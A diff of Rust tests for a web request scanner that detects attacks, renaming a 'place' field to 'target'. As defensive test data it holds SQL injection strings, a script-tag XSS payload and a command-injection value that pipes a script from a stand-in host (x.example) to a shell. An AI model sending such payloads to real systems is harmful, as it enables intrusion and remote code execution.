@@ -6,13 +6,13 @@ use super::rule_set::RuleSet;
 use super::scan::Scan;
 use super::signal::Signal;
 use crate::exchange::Head;
-use crate::read::place::Place;
+use crate::read::target::Target;
 use crate::read::{self, Field};
 use proptest::prelude::*;
 
 struct Example {
     rule: &'static str,
-    place: Place,
+    target: Target,
     name: &'static str,
     matches: &'static [&'static str],
     harmless: &'static [&'static str],
@@ -21,14 +21,14 @@ struct Example {
 include!(concat!(env!("OUT_DIR"), "/examples.rs"));
 
 /// Scans an example: a request line (`GET /a?b=c`), or else a value at the first place where its rule looks.
-fn scan(rules: &RuleSet, place: Place, name: &str, example: &str) -> Vec<Detection> {
+fn scan(rules: &RuleSet, target: Target, name: &str, example: &str) -> Vec<Detection> {
     let mut scan = Scan::new();
     match example.split_once(' ') {
         Some((method @ ("GET" | "POST"), target)) if target.starts_with('/') => {
             let head = Head::new([(":method", method), (":path", target)].into_iter().collect());
             read::head(&head, &mut |field| scan.push(rules, field));
         }
-        _ => scan.push(rules, Field { place, name: name.as_bytes(), value: example.as_bytes(), encoded: false }),
+        _ => scan.push(rules, Field { target, name: name.as_bytes(), value: example.as_bytes(), encoded: false }),
     }
     scan.take()
 }
@@ -39,7 +39,7 @@ fn rules_find_their_examples_and_leave_their_counter_examples_alone() {
     let mut wrong = Vec::new();
     for example in EXAMPLES {
         let found = |text: &str| -> Vec<&str> {
-            scan(&rules, example.place, example.name, text).iter().map(|one| rules.rule(one.rule).id).collect()
+            scan(&rules, example.target, example.name, text).iter().map(|one| rules.rule(one.rule).id).collect()
         };
         for text in example.matches {
             if !found(text).contains(&example.rule) {
@@ -62,16 +62,17 @@ fn found(target: &str, headers: &[(&str, &str)]) -> Vec<String> {
     let head = Head::new(pseudo.iter().chain(headers).copied().collect());
     let mut scan = Scan::new();
     read::head(&head, &mut |field| scan.push(&rules, field));
-    let line = |one: &Detection| format!("{} {} {}", rules.rule(one.rule).id, one.place, one.value.escape_ascii());
+    let line = |one: &Detection| format!("{} {} {}", rules.rule(one.rule).id, one.target, one.value.escape_ascii());
     scan.detections().iter().map(line).collect()
 }
 
 #[test]
 fn an_act_has_the_same_value_wherever_its_address_stands() {
     let value = "1\\' union select 1,2--";
-    let check = |target: &str, headers: &[(&str, &str)], place: &str| {
-        let expected = format!("sqli.union-select {place} {value}");
-        assert!(found(target, headers).contains(&expected), "{:?}", found(target, headers));
+    let check = |request_target: &str, headers: &[(&str, &str)], target: &str| {
+        let expected = format!("sqli.union-select {target} {value}");
+        let lines = found(request_target, headers);
+        assert!(lines.contains(&expected), "{lines:?}");
     };
     check("/item?id=1'+union+select+1,2--", &[], "query:id");
     check("/style.css", &[("referer", "https://shop.example/item?id=1'+union+select+1,2--")], "header:referer");
@@ -86,8 +87,8 @@ fn an_act_has_the_same_value_wherever_its_address_stands() {
 #[test]
 fn one_detection_for_each_rule_and_place() {
     let twice = found("/?a=%27+or+1=1--&a=%27+or+1=1--&b=%27+or+1=1--", &[]);
-    let places: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
-    assert_eq!(places.len(), 2, "{twice:?}");
+    let targets: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
+    assert_eq!(targets.len(), 2, "{twice:?}");
     let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
     let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
     assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
@@ -101,11 +102,11 @@ fn no_request_is_so_full_that_the_application_is_not_heard() {
     for (number, example) in (0_u8..3).flat_map(|number| EXAMPLES.iter().map(move |example| (number, example))) {
         let name = if example.name == "x" { format!("x{number}") } else { example.name.to_owned() };
         for value in example.matches.iter().map(|value| value.as_bytes()) {
-            scan.push(&rules, Field { place: example.place, name: name.as_bytes(), value, encoded: false });
+            scan.push(&rules, Field { target: example.target, name: name.as_bytes(), value, encoded: false });
         }
     }
     assert_eq!(scan.detections().len(), super::detection::DETECTIONS);
-    let field = Field { place: Place::Answer, name: b"", value: b"", encoded: false };
+    let field = Field { target: Target::Answer, name: b"", value: b"", encoded: false };
     for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
         scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
     }
@@ -133,9 +134,9 @@ fn names_are_places_and_safe_to_print() {
     let line = &found("/?%3Cscript%3Ealert(1)%3C/script%3E=1", &[])[0];
     assert!(line.starts_with("xss.script query:{} <script>"), "a payload in a name stays out of the log: {line}");
     let raw = format!("/?a\n{}=%27+or+1=1--", "b".repeat(200));
-    let places = found(&raw, &[]);
-    let mut places = places.iter().filter_map(|line| line.split(' ').nth(1));
-    assert!(places.all(|place| !place.contains('\n') && place.len() < 80));
+    let targets = found(&raw, &[]);
+    let mut targets = targets.iter().filter_map(|line| line.split(' ').nth(1));
+    assert!(targets.all(|target| !target.contains('\n') && target.len() < 80));
 }
 
 #[test]
@@ -153,7 +154,7 @@ fn a_pasted_text_counts_for_less_and_a_lookup_does_not() {
     let rules = RuleSet::builtin();
     let worst = |value: &str| {
         let mut scan = Scan::new();
-        scan.push(&rules, Field { place: Place::Json, name: b"text", value: value.as_bytes(), encoded: false });
+        scan.push(&rules, Field { target: Target::Json, name: b"text", value: value.as_bytes(), encoded: false });
         scan.take().iter().map(|one| one.severity).max()
     };
     let padding = "It was a dark and stormy night. ".repeat(20);
@@ -168,7 +169,7 @@ fn what_comes_after_the_last_place_for_detections_is_counted() {
     let mut scan = Scan::new();
     let push = |scan: &mut Scan, number: usize, example: &Example, text: &str| {
         let name = format!("{}{number}", example.name);
-        let field = Field { place: example.place, name: name.as_bytes(), value: text.as_bytes(), encoded: false };
+        let field = Field { target: example.target, name: name.as_bytes(), value: text.as_bytes(), encoded: false };
         scan.push(&rules, field);
     };
     let mut all = EXAMPLES.iter().flat_map(|one| one.matches.iter().map(move |text| (one, *text))).enumerate();
@@ -255,12 +256,12 @@ const HIDDEN_BY_TEXT: &[&str] = &[
 fn harmless_text_before_and_after_hides_no_example() {
     let rules = RuleSet::builtin();
     let mut hidden = Vec::new();
-    let is_free = |one: &&Example| matches!(one.place, Place::Query | Place::Form | Place::Json | Place::Text);
+    let is_free = |one: &&Example| matches!(one.target, Target::Query | Target::Form | Target::Json | Target::Text);
     for example in EXAMPLES.iter().filter(is_free).filter(|one| !HIDDEN_BY_TEXT.contains(&one.rule)) {
         for text in example.matches.iter().filter(|text| !(text.starts_with("GET /") || text.starts_with("POST /"))) {
             for around in [("", " and so on"), ("see there: ", ""), ("", "\nand so on"), ("see there:\n", "")] {
                 let value = format!("{}{text}{}", around.0, around.1);
-                if scan(&rules, example.place, example.name, &value).is_empty() {
+                if scan(&rules, example.target, example.name, &value).is_empty() {
                     hidden.push(format!("{} {value:?}", example.rule));
                 }
             }
@@ -326,8 +327,8 @@ fn hostile_values_cost_what_their_length_says() {
     for part in parts {
         let text = part.repeat(64 * 1024 / part.len());
         let mut scan = Scan::new();
-        for place in [Place::Query, Place::Path, Place::Text, Place::Header] {
-            scan.push(&rules, Field { place, name: b"x", value: text.as_bytes(), encoded: true });
+        for target in [Target::Query, Target::Path, Target::Text, Target::Header] {
+            scan.push(&rules, Field { target, name: b"x", value: text.as_bytes(), encoded: true });
         }
         let head = Head::new([("content-type", "application/json")].into_iter().collect());
         let mut body = read::Body::new(&head, 1 << 20);
@@ -347,8 +348,8 @@ proptest! {
         encoded in any::<bool>(),
     ) {
         let rules = RuleSet::builtin();
-        for place in Place::ALL {
-            let field = Field { place: *place, name: b"x", value: &value, encoded };
+        for target in Target::ALL {
+            let field = Field { target: *target, name: b"x", value: &value, encoded };
             let mut scans = [Scan::new(), Scan::new()];
             scans.iter_mut().for_each(|scan| scan.push(&rules, field));
             prop_assert_eq!(scans[0].take(), scans[1].take());
@@ -370,7 +371,7 @@ proptest! {
         let value = format!("{before}{payload}{after}");
         // A step up the directories is one only behind a slash or at the start.
         let joined = payload.starts_with("..") && !(before.is_empty() || before.ends_with(' '));
-        scan.push(&rules, Field { place: Place::Query, name: b"x", value: value.as_bytes(), encoded: false });
+        scan.push(&rules, Field { target: Target::Query, name: b"x", value: value.as_bytes(), encoded: false });
         prop_assert!(joined || scan.detections().iter().any(|one| one.severity >= Severity::High), "{}", value);
     }
 }
